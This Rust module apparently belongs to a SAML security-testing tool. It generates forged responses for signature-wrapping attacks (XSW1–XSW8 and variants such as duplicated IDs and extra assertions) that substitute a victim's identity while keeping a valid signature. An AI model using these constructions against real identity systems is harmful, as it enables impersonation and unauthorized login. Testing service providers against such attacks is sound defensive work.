//! Signature wrapping: the signed part is moved to where the signature still
//! finds it, and something else stands where the reader looks.
//!
//! The numbers are those of SAML Raider, which has them from "On Breaking
//! SAML: Be Whoever You Want to Be" (Somorovsky et al., 2012). 1 and 2 wrap a
//! signed response, 3 to 8 a signed assertion.

use crate::{
    forge::{
        Assertion, Cipher, Signed, Transport,
        encrypt::encrypted,
        xml::{ASSERTION, PROTOCOL, element},
    },
    scene::{AttackScene, ForgedMessage, RSA, SELF, VICTIM, find_element, replaced},
};

/// A signed response, its signature, and what it was before it was signed.
struct SignedResponse {
    whole: String,
    signature: String,
    bare: String,
}

fn signed_response(scene: &AttackScene) -> SignedResponse {
    let response = scene.response(scene.assertion().xml(""));
    let signature = response.signature(&scene.idp, RSA).xml();
    SignedResponse { whole: response.xml(&signature), bare: response.xml(""), signature }
}

impl SignedResponse {
    /// The evil response around it: another ID, another person.
    fn evil(&self) -> String {
        let evil = replaced(&self.whole, " ID=\"_response\"", " ID=\"_evil_response\"");
        replaced(&evil, SELF, VICTIM)
    }
}

/// A signed assertion, its signature, and what it was before it was signed.
struct SignedAssertion {
    assertion: Assertion,
    signature: String,
}

fn signed_assertion(scene: &AttackScene) -> SignedAssertion {
    let assertion = scene.assertion();
    SignedAssertion { signature: assertion.signature(&scene.idp, RSA).xml(), assertion }
}

impl SignedAssertion {
    fn whole(&self) -> String {
        self.assertion.xml(&self.signature)
    }

    /// Another assertion around this signature, with more in the signature.
    fn evil_with(&self, evil: &Assertion, in_signature: &str) -> String {
        let end = format!("{in_signature}</ds:Signature>");
        evil.xml(&replaced(&self.signature, "</ds:Signature>", &end))
    }
}

/// The genuine response without its signature, inside the signature of the
/// evil one.
pub(crate) fn xsw1(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_response(scene);
    let end = format!("{}</ds:Signature>", genuine.bare);
    replaced(&genuine.evil(), "</ds:Signature>", &end).into()
}

/// The genuine response without its signature, before the signature of the
/// evil one.
pub(crate) fn xsw2(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_response(scene);
    let before = format!("{}{}", genuine.bare, genuine.signature);
    replaced(&genuine.evil(), &genuine.signature, &before).into()
}

/// The evil assertion before the genuine one.
pub(crate) fn xsw3(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_assertion(scene);
    scene.response(scene.unsigned_assertion().xml("") + &genuine.whole()).xml("").into()
}

/// The genuine assertion inside the evil one.
pub(crate) fn xsw4(scene: &AttackScene) -> ForgedMessage {
    let end = format!("{}</saml:Assertion>", signed_assertion(scene).whole());
    let evil = replaced(&scene.unsigned_assertion().xml(""), "</saml:Assertion>", &end);
    scene.response(evil).xml("").into()
}

/// The evil assertion has the signature; the genuine one follows without it.
pub(crate) fn xsw5(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_assertion(scene);
    let evil = genuine.evil_with(&scene.unsigned_assertion(), "");
    scene.response(evil + &genuine.assertion.xml("")).xml("").into()
}

/// The evil assertion has the signature; the genuine one is in the signature.
pub(crate) fn xsw6(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_assertion(scene);
    let evil = genuine.evil_with(&scene.unsigned_assertion(), &genuine.assertion.xml(""));
    scene.response(evil).xml("").into()
}

/// The evil assertion, of the same ID, in the response's `Extensions`, where a
/// schema does not look for IDs.
pub(crate) fn xsw7(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_assertion(scene);
    let evil = Assertion::valid(&scene.context, VICTIM).xml("");
    let extensions = element("samlp:Extensions", &[], &evil);
    scene.response(extensions + &genuine.whole()).xml("").into()
}

/// The evil assertion, of the same ID, has the signature; the genuine one is
/// in an `Object` of it.
pub(crate) fn xsw8(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_assertion(scene);
    let object = element("ds:Object", &[], &genuine.assertion.xml(""));
    let evil = Assertion::valid(&scene.context, VICTIM);
    scene.response(genuine.evil_with(&evil, &object)).xml("").into()
}

/// The evil assertion has the signature; the genuine one is in an `Object` of
/// it, and each has its own ID.
pub(crate) fn wrapped_in_an_object(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_assertion(scene);
    let object = element("ds:Object", &[], &genuine.assertion.xml(""));
    scene.response(genuine.evil_with(&scene.unsigned_assertion(), &object)).xml("").into()
}

/// The genuine assertion in the response's `Extensions`, the evil one where it
/// belongs.
pub(crate) fn wrapped_in_extensions(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_assertion(scene).whole();
    let extensions = element("samlp:Extensions", &[], &genuine);
    scene.response(extensions + &scene.unsigned_assertion().xml("")).xml("").into()
}

fn with_extensions(scene: &AttackScene, content: &str) -> ForgedMessage {
    let mut response = scene.response(scene.assertion().signed(&scene.idp));
    response.extensions = element("samlp:Extensions", &[], content);
    response.xml("").into()
}

/// An encrypted assertion in the response's `Extensions`, beside a genuine one.
pub(crate) fn encrypted_assertion_in_extensions(scene: &AttackScene) -> ForgedMessage {
    let evil = scene.unsigned_assertion().xml("");
    let evil = encrypted(&evil, &scene.encryption, Cipher::Aes256Gcm, Transport::Oaep);
    with_extensions(scene, &evil)
}

/// The signature of a genuine assertion in the response's `Extensions`.
pub(crate) fn signature_in_extensions(scene: &AttackScene) -> ForgedMessage {
    let signature = signed_assertion(scene).signature;
    let mut response = scene.response(scene.unsigned_assertion().xml(""));
    response.extensions = element("samlp:Extensions", &[], &signature);
    response.xml("").into()
}

/// The ID of the assertion once more, in the response's `Extensions`.
pub(crate) fn duplicated_id_in_extensions(scene: &AttackScene) -> ForgedMessage {
    with_extensions(scene, "<x xmlns=\"urn:x\" ID=\"_assertion\"></x>")
}

/// `Extensions` twice.
pub(crate) fn two_extensions(scene: &AttackScene) -> ForgedMessage {
    let mut response = scene.response(scene.assertion().signed(&scene.idp));
    response.extensions = element("samlp:Extensions", &[], "").repeat(2);
    response.xml("").into()
}

/// `Extensions` in the assertion, where the schema has none.
pub(crate) fn extensions_in_the_assertion(scene: &AttackScene) -> ForgedMessage {
    let mut assertion = scene.assertion();
    let extensions = [("xmlns:samlp", PROTOCOL)];
    assertion.attributes += &element("samlp:Extensions", &extensions, "");
    scene.response(assertion.signed(&scene.idp)).xml("").into()
}

/// `Extensions` in a signed response are changed.
pub(crate) fn changed_extensions(scene: &AttackScene) -> ForgedMessage {
    let mut response = scene.response(scene.assertion().xml(""));
    response.extensions = element("samlp:Extensions", &[], "<x xmlns=\"urn:x\">one</x>");
    replaced(&response.signed(&scene.idp), ">one<", ">two<").into()
}

/// The genuine response, whole, inside another response.
pub(crate) fn response_in_a_response(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_response(scene).whole;
    let mut outer = scene.response(genuine + &scene.unsigned_assertion().xml(""));
    outer.id = "_outer".into();
    outer.xml("").into()
}

/// The genuine response inside a root that is none.
pub(crate) fn another_root(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_response(scene).whole;
    let name = "samlp:ArtifactResponse";
    element(name, &[("xmlns:samlp", PROTOCOL), ("ID", "_outer")], &genuine).into()
}

/// Response and assertion have the same ID.
pub(crate) fn duplicated_ids(scene: &AttackScene) -> ForgedMessage {
    let mut response = scene.response(signed_assertion(scene).whole());
    response.id = "_assertion".into();
    response.xml("").into()
}

/// Response and assertion have the same ID, and the response's signature
/// covers the assertion alone.
pub(crate) fn duplicated_ids_under_a_response_signature(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_assertion(scene);
    let mut response = scene.response(genuine.assertion.xml(""));
    response.id = "_assertion".into();
    response.xml(&genuine.signature).into()
}

/// An ID of the assertion once more, spelled otherwise: XMLSec and others take
/// it for the same.
pub(crate) fn duplicated_id_in_another_spelling(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.response(signed_assertion(scene).whole()).xml("");
    replaced(&xml, "<samlp:Status>", "<samlp:Status Id=\"_assertion\">").into()
}

/// The response's signature covers the assertion alone, so that the envelope
/// can be anything.
pub(crate) fn signature_of_the_assertion_on_the_response(scene: &AttackScene) -> ForgedMessage {
    let genuine = signed_assertion(scene);
    scene.response(genuine.assertion.xml("")).xml(&genuine.signature).into()
}

/// A second assertion, which nobody signed, after the genuine one.
pub(crate) fn second_assertion(scene: &AttackScene) -> ForgedMessage {
    scene
        .response(signed_assertion(scene).whole() + &scene.unsigned_assertion().xml(""))
        .xml("")
        .into()
}

/// A second assertion, genuine as well: the victim's of another day.
pub(crate) fn second_signed_assertion(scene: &AttackScene) -> ForgedMessage {
    let second = scene.unsigned_assertion().signed(&scene.idp);
    scene.response(signed_assertion(scene).whole() + &second).xml("").into()
}

/// A second assertion, encrypted.
pub(crate) fn second_encrypted_assertion(scene: &AttackScene) -> ForgedMessage {
    let second = scene.unsigned_assertion().xml("");
    let second = encrypted(&second, &scene.encryption, Cipher::Aes256Gcm, Transport::Oaep);
    scene.response(signed_assertion(scene).whole() + &second).xml("").into()
}

/// A second assertion in the `Advice` of the first (Core 2.6.1).
pub(crate) fn assertion_in_advice(scene: &AttackScene) -> ForgedMessage {
    let advice = element(
        "saml:Advice",
        &[],
        &replaced(&scene.unsigned_assertion().xml(""), &saml_namespaces(), ""),
    );
    let mut assertion = scene.assertion();
    assertion.authn_statement = advice + &assertion.authn_statement;
    scene.response(assertion.signed(&scene.idp)).xml("").into()
}

/// The declaration of SAML's namespace, which canonical form leaves out where
/// it holds already.
fn saml_namespaces() -> String {
    format!(" xmlns:saml=\"{ASSERTION}\"")
}

/// No assertion at all.
pub(crate) fn no_assertion(scene: &AttackScene) -> ForgedMessage {
    scene.response("").signed(&scene.idp).into()
}

/// The victim's name in a second subject.
pub(crate) fn second_subject(scene: &AttackScene) -> ForgedMessage {
    let xml = scene.valid_response(Signed::Assertion);
    let subject = find_element(&xml, "saml:Subject").to_owned();
    let second = replaced(&subject, SELF, VICTIM);
    replaced(&xml, &subject, &(second + &subject)).into()
}
